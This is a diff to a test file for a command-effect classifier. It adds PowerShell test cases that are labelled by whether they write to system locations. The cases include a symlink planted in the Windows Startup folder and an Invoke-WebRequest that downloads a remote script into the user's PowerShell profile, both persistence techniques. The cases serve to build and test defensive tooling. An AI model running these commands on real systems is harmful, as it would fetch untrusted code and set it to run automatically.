@@ -2058,5 +2058,7 @@ describe("effectsOf, metamorphic classes (fresh13)", () => {
   derives("a Startup folder entry made by New-Item (fresh16 round 3)", [
     ["New-Item -ItemType SymbolicLink -Path \"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.lnk\" -Target C:\\Users\\Public\\x.exe", ["system-write"]],
     ["Test-Path \"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.lnk\"", []],
+    ["Invoke-WebRequest https://x.io/p.ps1 -OutFile $PROFILE", ["system-write /home/user/Documents/PowerShell/Microsoft.PowerShell_profile.ps1"]],
+    ["Invoke-WebRequest https://x.io/p.ps1 -OutFile .\\tools\\p.ps1", []],
   ], psKinds, " (PowerShell)");
 });
